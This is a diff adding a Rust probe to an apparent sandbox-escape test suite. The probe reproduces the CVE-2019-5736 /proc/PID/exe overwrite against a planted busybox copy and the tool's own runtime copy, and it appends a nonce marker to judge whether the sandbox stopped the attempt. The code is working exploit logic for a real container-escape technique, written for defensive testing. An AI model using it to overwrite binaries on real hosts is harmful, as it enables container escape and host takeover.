@@ -1,0 +1,519 @@
+//! proc-self-exe: overwrite an executable through a /proc/PID/exe magic link (CVE-2019-5736):
+//! the probe's own child's binary, and the binary of every runtime process it can see.
+
+use crate::kit::{busybox, conclude, io_keep, parse_or_report, Oracle};
+use crate::world::{Planted, World};
+use crate::{
+    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
+    ProbeMeta, RunObservation, Steps,
+};
+use std::fs;
+use std::io::Write;
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command};
+use std::time::{Duration, Instant};
+
+/// What the inside appends to the executable, followed by the nonce.
+pub const MARKER: &str = "breakout-proc-self-exe:";
+
+/// How long the inside waits for its child to have exec'd the planted binary.
+const EXEC_WAIT: Duration = Duration::from_secs(3);
+
+/// How long the inside waits for a runtime process it holds by its exe link to end (the write
+/// is refused with ETXTBSY while the binary runs).
+const RUNTIME_WAIT: Duration = Duration::from_secs(12);
+
+/// How long the outside waits for its runtime copy to have started a sandbox.
+const COPY_START_WAIT: Duration = Duration::from_secs(10);
+
+/// How long the outside's runtime copy waits for the inside to appear (then it lives 2 s more).
+const COPY_WAIT_TENTHS: u32 = 150;
+
+static META: ProbeMeta = ProbeMeta {
+    id: "proc-self-exe",
+    title: "Overwrite an executable through /proc/PID/exe",
+    technique: "/proc/PID/exe is a magic link to the file a process runs, usable even where the \
+        file's path is not. The runc escape (CVE-2019-5736) opened it with O_PATH while the \
+        binary ran, waited for the process to end (a running binary cannot be opened for \
+        writing: ETXTBSY), then reopened the descriptor through /proc/self/fd for writing and \
+        replaced the host's runc. The inside does the same to a copy of busybox the outside \
+        planted under /usr (visible in a sandbox root), and to every runtime process it can see \
+        (comm, argv[0] or exe named breakout): the outside runs a copy of the runtime binary, \
+        from a directory no sandbox sees, as `breakout sandbox` while the attempt runs; the \
+        inside holds its exe link, waits for it to end, and appends a line instead of \
+        replacing it. Read-only mounts (EROFS), file ownership, a pid namespace hiding the \
+        runtime, the ptrace access check on /proc/PID/exe and a runtime running from a sealed \
+        memfd copy of itself stop it.",
+    oracle: "The planted executable or the runtime copy, read by the outside after the \
+        attempt, ends with the per-attempt nonce.",
+    layers: &[
+        Layer::FsHardening,
+        Layer::MountNs,
+        Layer::Uid,
+        Layer::UserNs,
+        Layer::Seccomp,
+        Layer::Landlock,
+        Layer::PidNs,
+        Layer::Caps,
+    ],
+    references: &[
+        "CVE-2019-5736 (runc /proc/self/exe overwrite)",
+        "runc: re-exec from a sealed memfd copy",
+    ],
+    class: ProbeClass::Plain,
+};
+
+pub struct ProcSelfExe;
+
+struct State {
+    _dir: Planted,
+    exe: PathBuf,
+    nonce: String,
+    runtime: Option<RuntimeCopy>,
+}
+
+/// A copy of the runtime binary, outside every sandbox's view, running `sandbox` while the
+/// attempt runs; killed and reaped on drop.
+struct RuntimeCopy {
+    _dir: Planted,
+    bin: PathBuf,
+    child: Child,
+}
+
+impl Drop for RuntimeCopy {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Copies the runtime binary (beside `breakout-probe`) into a directory of the outside world
+/// and runs it as a runtime: `breakout sandbox --profile none` over a shell that waits until
+/// the attempt with `nonce` runs (its argv holds `nonce=...`) and then lives 2 s longer.
+fn start_runtime_copy(world: &World, nonce: &str) -> Result<Option<RuntimeCopy>, ProbeError> {
+    let id = META.id;
+    let original = world.probe_bin().with_file_name("breakout");
+    if !original.is_file() {
+        return Ok(None);
+    }
+    let dir = world
+        .scratch_dir("proc-self-exe-runtime")
+        .map_err(ProbeError::world(id))?;
+    let bin = dir.path().join("breakout");
+    // Copied by a child process: a descriptor open for writing in this (multi-threaded)
+    // process would be inherited by every sandbox another thread forks meanwhile, and the
+    // copy's execve would fail with ETXTBSY for as long as one of them holds it.
+    let bb = busybox().ok_or_else(|| ProbeError::unsupported(id, "no static busybox in /bin"))?;
+    let cp = Command::new(&bb)
+        .arg("cp")
+        .arg(&original)
+        .arg(&bin)
+        .status()
+        .map_err(|e| ProbeError::arrange(id, "copying the runtime binary", e))?;
+    if !cp.success() {
+        return Err(ProbeError::arrange(
+            id,
+            format!("copying the runtime binary ({cp})"),
+            std::io::Error::from(std::io::ErrorKind::Other),
+        ));
+    }
+    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755))
+        .map_err(|e| ProbeError::arrange(id, "chmod 0755 of the runtime copy", e))?;
+    // `[n]once=` matches the probe's argv but not this script's own.
+    let script = format!(
+        "i=0; while [ $i -lt {COPY_WAIT_TENTHS} ] && ! grep -qs '[n]once={nonce}' /proc/[0-9]*/cmdline; do sleep 0.1; i=$((i+1)); done; sleep 2"
+    );
+    // Belt and braces: should a writer's descriptor still linger somewhere, retry a busy text
+    // file for a while.
+    let mut tries = 0;
+    let child = loop {
+        match Command::new(&bin)
+            .args([
+                "sandbox",
+                "--profile",
+                "none",
+                "--",
+                "/bin/sh",
+                "-c",
+                &script,
+            ])
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+        {
+            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && tries < 40 => {
+                tries += 1;
+                std::thread::sleep(Duration::from_millis(50));
+            }
+            r => break r.map_err(|e| ProbeError::arrange(id, "starting the runtime copy", e))?,
+        }
+    };
+    let copy = RuntimeCopy {
+        _dir: dir,
+        bin,
+        child,
+    };
+    // The attack is on a runtime at work (runc's CVE: a runc already inside the container),
+    // not on the milliseconds of its start: wait until it has started its sandbox.
+    let children = format!("/proc/{0}/task/{0}/children", copy.child.id());
+    let deadline = Instant::now() + COPY_START_WAIT;
+    while fs::read_to_string(&children)
+        .unwrap_or_default()
+        .trim()
+        .is_empty()
+    {
+        if Instant::now() >= deadline {
+            return Err(ProbeError::arrange(
+                id,
+                "waiting for the runtime copy to start its sandbox",
+                std::io::Error::from(std::io::ErrorKind::TimedOut),
+            ));
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    Ok(Some(copy))
+}
+
+/// The verdict on the executable's bytes after the attempt.
+fn classify(content: &[u8], nonce: &str) -> Oracle {
+    classify_as(content, nonce, "the planted executable")
+}
+
+fn classify_as(content: &[u8], nonce: &str, what: &str) -> Oracle {
+    let needle = format!("{MARKER}{nonce}");
+    let tail = &content[content.len().saturating_sub(4096)..];
+    if !nonce.is_empty() && tail.windows(needle.len()).any(|w| w == needle.as_bytes()) {
+        Oracle::Hit(format!("{what} was written through its /proc/PID/exe link"))
+    } else {
+        Oracle::Miss(format!("{what} is unchanged"))
+    }
+}
+
+/// The verdict over both targets: a hit on either is an escape.
+fn combine(planted: Oracle, runtime: Option<Oracle>) -> Oracle {
+    match (planted, runtime) {
+        (hit @ Oracle::Hit(_), _) | (_, Some(hit @ Oracle::Hit(_))) => hit,
+        (undecided @ Oracle::Undecided(_), _) | (_, Some(undecided @ Oracle::Undecided(_))) => {
+            undecided
+        }
+        (Oracle::Miss(a), Some(Oracle::Miss(b))) => Oracle::Miss(format!("{a}; {b}")),
+        (miss, None) => miss,
+    }
+}
+
+impl Probe for ProcSelfExe {
+    fn meta(&self) -> &'static ProbeMeta {
+        &META
+    }
+
+    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
+        let id = META.id;
+        let bb =
+            busybox().ok_or_else(|| ProbeError::unsupported(id, "no static busybox in /bin"))?;
+        let salt = world.fresh_secret().map_err(ProbeError::world(id))?;
+        let nonce = salt[..16].to_string();
+        let runtime = start_runtime_copy(world, &nonce)?;
+        let dir = world
+            .shared_scratch_dir("proc-self-exe")
+            .map_err(ProbeError::world(id))?;
+        // busybox picks its applet from argv[0]: this copy is `sleep`.
+        let exe = dir.path().join("sleep");
+        fs::copy(&bb, &exe).map_err(|e| ProbeError::arrange(id, "copying busybox", e))?;
+        fs::set_permissions(&exe, fs::Permissions::from_mode(0o755))
+            .map_err(|e| ProbeError::arrange(id, "chmod 0755 of the executable", e))?;
+        let mut args = vec![kv("exe", exe.display()), kv("nonce", &nonce)];
+        if let Some(r) = &runtime {
+            // Which of the runtime processes in view to wait for (the others run on): the
+            // inside still reaches its binary only through /proc/PID/exe.
+            args.push(kv("runtime", r.bin.display()));
+        }
+        Ok(Arrangement::new(
+            args,
+            State {
+                _dir: dir,
+                exe,
+                nonce,
+                runtime,
+            },
+        ))
+    }
+
+    fn attempt(&self, args: &[String]) -> InsideReport {
+        let mut steps = Steps::new(META.id);
+        if let Some((exe, nonce, runtime)) = parse_or_report(&mut steps, args, |a| {
+            Ok((
+                PathBuf::from(a.str("exe")?),
+                a.str("nonce")?.to_string(),
+                a.opt_str("runtime").map(str::to_string),
+            ))
+        }) {
+            attempt(&mut steps, &exe, &nonce, runtime.as_deref());
+        }
+        steps.finish()
+    }
+
+    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
+        let Some(state) = arrangement.state::<State>() else {
+            return Judgement::inconclusive("proc-self-exe: arrangement state of the wrong type");
+        };
+        let planted = match fs::read(&state.exe) {
+            Ok(content) => classify(&content, &state.nonce),
+            Err(e) => Oracle::Undecided(format!("reading {}: {e}", state.exe.display())),
+        };
+        let runtime = state.runtime.as_ref().map(|r| match fs::read(&r.bin) {
+            Ok(content) => classify_as(
+                &content,
+                &state.nonce,
+                "the runtime binary (a copy run as `breakout sandbox`)",
+            ),
+            Err(e) => Oracle::Undecided(format!("reading {}: {e}", r.bin.display())),
+        });
+        conclude(combine(planted, runtime), run)
+    }
+}
+
+/// The /proc/PID/exe link of a process that runs `exe`.
+fn find_running(exe: &Path) -> Option<PathBuf> {
+    fs::read_dir("/proc")
+        .ok()?
+        .flatten()
+        .map(|e| e.path().join("exe"))
+        .find(|link| fs::read_link(link).is_ok_and(|t| t == exe))
+}
+
+/// Kills and reaps the child on every path out of the attempt.
+struct Reaped(Child);
+
+impl Drop for Reaped {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Runtime processes in view: comm, argv[0] or exe link named `breakout` (not the probe).
+fn runtime_processes() -> Vec<(i32, String, String)> {
+    let me = std::process::id() as i32;
+    let named = |s: &str| {
+        let base = s.rsplit('/').next().unwrap_or(s);
+        let base = base.trim_start_matches("memfd:");
+        base.starts_with("breakout") && !base.starts_with("breakout-probe")
+    };
+    let Ok(dir) = fs::read_dir("/proc") else {
+        return Vec::new();
+    };
+    let mut found = Vec::new();
+    for e in dir.flatten() {
+        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
+            continue;
+        };
+        if pid == me {
+            continue;
+        }
+        let comm = fs::read_to_string(e.path().join("comm")).unwrap_or_default();
+        let argv0 = fs::read(e.path().join("cmdline"))
+            .map(|c| {
+                String::from_utf8_lossy(c.split(|b| *b == 0).next().unwrap_or(&[])).into_owned()
+            })
+            .unwrap_or_default();
+        let exe = fs::read_link(e.path().join("exe"))
+            .map(|p| p.display().to_string())
+            .unwrap_or_default();
+        if named(comm.trim()) || named(&argv0) || named(exe.trim_end_matches(" (deleted)")) {
+            found.push((pid, format!("{} {argv0} -> {exe}", comm.trim()), argv0));
+        }
+    }
+    found
+}
+
+fn alive(pid: i32) -> bool {
+    fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
+        !s.rsplit(')')
+            .next()
+            .unwrap_or("")
+            .trim_start()
+            .starts_with('Z')
+    })
+}
+
+/// Hold every visible runtime process's binary by its exe link (while it runs: the link needs
+/// the process alive).
+fn hold_runtimes(steps: &mut Steps) -> Vec<Held> {
+    let found = runtime_processes();
+    steps.note(
+        "find runtime processes",
+        if found.is_empty() {
+            "none in view".to_string()
+        } else {
+            found
+                .iter()
+                .map(|(p, what, _)| format!("{p} ({what})"))
+                .collect::<Vec<_>>()
+                .join(", ")
+        },
+    );
+    let mut held = Vec::new();
+    for (pid, _, argv0) in found {
+        let link = format!("/proc/{pid}/exe");
+        if let Some(fd) = io_keep(
+            steps,
+            "hold the runtime binary by its magic link",
+            format!("open({link}, O_PATH)"),
+            || {
+                fs::OpenOptions::new()
+                    .read(true)
+                    .custom_flags(libc::O_PATH)
+                    .open(&link)
+                    .map(OwnedFd::from)
+            },
+        ) {
+            held.push(Held { pid, argv0, fd });
+        }
+    }
+    held
+}
+
+/// A runtime process's binary, held by its exe link.
+struct Held {
+    pid: i32,
+    argv0: String,
+    fd: OwnedFd,
+}
+
+/// Wait until the held runtime processes end (the daemonised child of runc's CVE outliving
+/// it), then append the marker to each ended one's binary through the held descriptor. Waits
+/// for the processes running `wait_for` (the others, such as the orchestrator, run on) and
+/// writes whatever has ended by then.
+fn write_runtimes(steps: &mut Steps, held: Vec<Held>, nonce: &str, wait_for: Option<&str>) {
+    if held.is_empty() {
+        return;
+    }
+    let deadline = Instant::now() + RUNTIME_WAIT;
+    let awaited = |h: &Held| wait_for.is_some_and(|w| h.argv0 == w);
+    while held.iter().any(|h| awaited(h) && alive(h.pid)) && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    for h in held {
+        let pid = h.pid;
+        if alive(pid) {
+            steps.note(
+                "wait for the runtime to end",
+                format!("pid {pid} still runs (its binary stays busy)"),
+            );
+            continue;
+        }
+        let reopen = format!("/proc/self/fd/{}", h.fd.as_raw_fd());
+        let writer = io_keep(
+            steps,
+            "reopen the ended runtime's binary for writing",
+            format!("open({reopen}, O_WRONLY|O_APPEND) (pid {pid})"),
+            || fs::OpenOptions::new().append(true).open(&reopen),
+        );
+        if let Some(mut writer) = writer {
+            steps.io(
+                "write into the runtime binary",
+                "write(exe fd, marker)",
+                || writer.write(format!("\n{MARKER}{nonce}\n").as_bytes()),
+            );
+        }
+    }
+}
+
+fn attempt(steps: &mut Steps, exe: &Path, nonce: &str, runtime: Option<&str>) {
+    let held = hold_runtimes(steps);
+    attempt_planted(steps, exe, nonce);
+    write_runtimes(steps, held, nonce, runtime);
+}
+
+fn attempt_planted(steps: &mut Steps, exe: &Path, nonce: &str) {
+    let child = io_keep(
+        steps,
+        "run the target binary",
+        format!("execve({} 30)", exe.display()),
+        || Command::new(exe).arg("30").spawn(),
+    );
+    let Some(child) = child else { return };
+    let child = Reaped(child);
+    // The child's pid as we know it may not name it in the /proc we see (a pid namespace
+    // without its own procfs): find it by the binary it runs instead.
+    let deadline = Instant::now() + EXEC_WAIT;
+    let link = loop {
+        if let Some(link) = find_running(exe) {
+            break link;
+        }
+        if Instant::now() >= deadline {
+            steps.note(
+                "find the target process",
+                format!("no process running {} in /proc", exe.display()),
+            );
+            return;
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    };
+    let held = io_keep(
+        steps,
+        "hold the binary by its magic link",
+        format!("open({}, O_PATH)", link.display()),
+        || {
+            fs::OpenOptions::new()
+                .read(true)
+                .custom_flags(libc::O_PATH)
+                .open(&link)
+                .map(OwnedFd::from)
+        },
+    );
+    drop(child);
+    let Some(held) = held else { return };
+    let reopen = PathBuf::from(format!("/proc/self/fd/{}", held.as_raw_fd()));
+    let writer = io_keep(
+        steps,
+        "reopen it for writing once it no longer runs",
+        format!("open({}, O_WRONLY|O_APPEND)", reopen.display()),
+        || fs::OpenOptions::new().append(true).open(&reopen),
+    );
+    if let Some(mut writer) = writer {
+        steps.io("write into the binary", "write(exe fd, marker)", || {
+            writer.write(format!("\n{MARKER}{nonce}\n").as_bytes())
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_the_appended_nonce_counts() {
+        let mut bin = vec![0x7fu8, b'E', b'L', b'F'];
+        bin.extend(vec![0u8; 10_000]);
+        assert!(matches!(classify(&bin, "abc"), Oracle::Miss(_)));
+        bin.extend(format!("\n{MARKER}abc\n").as_bytes());
+        assert!(matches!(classify(&bin, "abc"), Oracle::Hit(_)));
+        assert!(matches!(classify(&bin, "abd"), Oracle::Miss(_)));
+        assert!(matches!(classify(&bin, ""), Oracle::Miss(_)));
+    }
+
+    #[test]
+    fn either_target_written_is_an_escape() {
+        let miss = || Oracle::Miss("m".into());
+        let hit = || Oracle::Hit("h".into());
+        assert!(matches!(combine(miss(), None), Oracle::Miss(_)));
+        assert!(matches!(combine(miss(), Some(miss())), Oracle::Miss(_)));
+        assert!(matches!(combine(hit(), Some(miss())), Oracle::Hit(_)));
+        assert!(matches!(combine(miss(), Some(hit())), Oracle::Hit(_)));
+        assert!(matches!(
+            combine(miss(), Some(Oracle::Undecided("u".into()))),
+            Oracle::Undecided(_)
+        ));
+    }
+
+    #[test]
+    fn bad_arguments_are_reported() {
+        let report = ProcSelfExe.attempt(&["exe=/x".into()]);
+        assert_eq!(report.steps[0].action, "parse arguments");
+        assert!(report.steps[0].data.as_deref().unwrap().contains("nonce"));
+    }
+}
